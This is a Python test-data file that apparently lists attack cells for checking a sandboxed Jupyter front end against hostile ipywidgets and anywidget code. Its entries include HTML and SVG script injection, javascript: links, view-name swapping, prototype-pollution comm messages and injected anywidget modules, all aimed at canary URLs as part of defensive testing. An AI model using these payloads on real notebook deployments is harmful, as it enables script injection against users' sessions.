"""What hostile code in a sandbox may do with widgets of ipywidgets and anywidget, as a table of cells."""

from __future__ import annotations

from .attacks import Attack

__all__ = ["WIDGET_ATTACKS"]

WIDGET_ATTACKS = (
    Attack("html-widget", "display(W.HTML(img('html-widget')))"),
    Attack("html-widget-update", "w = W.HTML('x'); display(w); w.value = img('html-widget-update')"),
    Attack("html-math", "display(W.HTMLMath(link('html-math')))", fires=False),
    Attack(
        "html-math-token",
        r"""display(W.HTMLMath(rf'$\mmlToken{{mi}}[href="javascript:{js("html-math-token")}"]{{click}}$'))""",
        fires=False,
    ),
    Attack("label-math", "display(W.Label(link('label-math')))", fires=False),
    Attack(
        "label-html",
        "display(W.Label(img('label-html')), W.Valid(description=img('label-html'), readout=img('label-html')))",
        False,
    ),
    Attack("description-math", "display(W.IntSlider(description=link('description-math')))", fires=False),
    Attack(
        "description-html",
        "display(W.IntSlider(description=img('description-html'), description_allow_html=True))",
        fires=False,
    ),
    Attack(
        "description-later",
        "w = W.IntSlider(description='x'); display(w); update(w, {'description_allow_html': True, 'description': img('description-later')})",
        fires=False,
    ),
    Attack(
        "button",
        "display(W.Button(description=img('button'), tooltip=img('button'), icon='\" onclick=\"x'), W.Checkbox(description=img('button'), description_allow_html=True), W.ToggleButtons(options=[img('button')], tooltips=[img('button')]))",
        fires=False,
    ),
    Attack(
        "titles",
        "display(W.Tab([W.Label('x')], titles=[img('titles')]), W.Accordion([W.Label('x')], titles=[img('titles')]))",
        False,
    ),
    Attack(
        "choices",
        "display(W.Dropdown(options=[img('choices')]), W.Select(options=[img('choices')]), W.RadioButtons(options=[img('choices')]), W.TagsInput(value=[img('choices')], allow_duplicates=True), W.Combobox(options=[img('choices')], placeholder=img('choices')))",
        False,
    ),
    Attack(
        "view-of-another",
        """
class Disguised(W.Text):
    _view_name = T.Unicode("HTMLView").tag(sync=True)
display(Disguised(img("view-of-another")))""",
    ),
    Attack("view-later", "w = W.Text(img('view-later')); update(w, {'_view_name': 'HTMLView'}); display(w)"),
    Attack(
        "view-switched",
        """
w = W.Text("x")
update(w, {"_view_name": "HTMLMathView", "_view_module": "@jupyter-widgets/controls"})
w.value = img("view-switched")
display(w)""",
    ),
    Attack(
        "prototype", "w = W.HTML('x'); display(w); update(w, {'__proto__': {'value': img('prototype')}})", fires=False
    ),
    Attack(
        "prototype-nested",
        "w = W.HTML('x'); display(w); w.comm.send({'method': 'update', '__proto__': {'state': {'value': img('prototype-nested')}, 'buffer_paths': []}})",
        False,
    ),
    Attack("js-link", "a, b = W.Text(img('js-link')), W.HTML('x'); display(b, W.jslink((a, 'value'), (b, 'value')))"),
    Attack(
        "js-dlink-chain",
        """
a, m, b = W.Text(img("js-dlink-chain")), W.IntSlider(), W.HTML("x")
display(b)
keep = W.jsdlink((a, "value"), (m, "value")), W.jsdlink((m, "value"), (b, "value"))
a.value = img("js-dlink-chain") + " "
""",
        False,
    ),
    Attack(
        "js-link-label",
        "a, b = W.Text(link('js-link-label')), W.Label('x'); display(b); keep2 = W.jslink((a, 'value'), (b, 'value'))",
        fires=False,
    ),
    Attack(
        "js-link-esm",
        """
class Victim(anywidget.AnyWidget):
    _esm = "export default {render({el}) {el.textContent = 1}}"
v, a = Victim(), W.Text("export default {render() {" + js("js-link-esm") + "}}")
keep3 = W.jsdlink((a, "value"), (v, "_esm"))
display(v)""",
    ),
    Attack(
        "js-link-outputs",
        """
class Carrier(W.Text):
    stuff = T.List([{"output_type": "display_data", "data": {"text/html": img("js-link-outputs")}, "metadata": {}}]).tag(sync=True)
o, a = W.Output(), Carrier()
display(o)
keep4 = W.jsdlink((a, "stuff"), (o, "outputs"))""",
    ),
    Attack(
        "output-widget",
        "display(W.Output(outputs=({'output_type': 'display_data', 'data': {'text/html': img('output-widget')}, 'metadata': {}},)))",
    ),
    Attack(
        "output-widget-script",
        "display(W.Output(outputs=({'output_type': 'execute_result', 'execution_count': 1, 'data': {'application/javascript': js('output-widget-script')}, 'metadata': {}},)))",
    ),
    Attack("output-context", "o = W.Output(); display(o)\nwith o: display(HTML(img('output-context')))"),
    Attack(
        "anywidget",
        """
class Evil(anywidget.AnyWidget):
    _esm = "export default {render() {" + js("anywidget") + "}}"
display(Evil())""",
    ),
    Attack(
        "anywidget-update",
        "w = Victim(); display(w); w._esm = 'export default {render() {' + js('anywidget-update') + '}}'",
    ),
    Attack(
        "anywidget-prototype",
        "w = Victim(); display(w); update(w, {'__proto__': {'_esm': 'export default {render() {' + js('anywidget-prototype') + '}}'}})",
        fires=False,
    ),
    Attack(
        "anywidget-css",
        """
class Styled(anywidget.AnyWidget):
    _esm = "export default {render() {}}"
    _css = ".jp-Toolbar {background: url(/canary-anywidget-css)}"
display(Styled())""",
    ),
    Attack(
        "module-url",
        """
class Far(W.DOMWidget):
    _model_module = _view_module = T.Unicode(SERVER + "canary-module-url").tag(sync=True)
    _model_name = _view_name = T.Unicode("X").tag(sync=True)
display(Far())""",
        False,
    ),
    Attack(
        "comm-target-module",
        "c = create_comm(target_name='x', data={'target_module': url('comm-target-module')})",
        False,
    ),
    Attack(
        "control",
        """
w = W.HTML("x")
c = create_comm(target_name="jupyter.widget.control", data={})
c.send({"method": "update_states", "states": {w.model_id: {"model_name": "HTMLModel", "state": {"value": img("control")}}}, "buffer_paths": []})
display(w)""",
        False,
    ),
    Attack(
        "custom",
        "w = W.HTML('x'); display(w); w.send({'value': img('custom'), 'method': 'update', 'state': {'value': img('custom')}})",
        False,
    ),
    Attack(
        "style-trait",
        """
w = W.HTML("x")
w.style.background = "url(/canary-style-trait)"
display(w)""",
    ),
    Attack("image-url", "display(W.Image.from_url(url('image-url')))"),
    Attack(
        "image-svg",
        'display(W.Image(value=f\'<svg xmlns="http://www.w3.org/2000/svg" onload="{js("image-svg")}"/>\'.encode(), format=\'svg+xml\'))',
        False,
    ),
    Attack("video-url", "display(W.Video.from_url(url('video-url')))"),
    Attack(
        "prototype-buffers",
        "w = W.HTML('x'); display(w); w.comm.send({'method': 'update', 'state': {}, 'buffer_paths': [['__proto__', 'polluted']]}, buffers=[b'x'])",
    ),
)
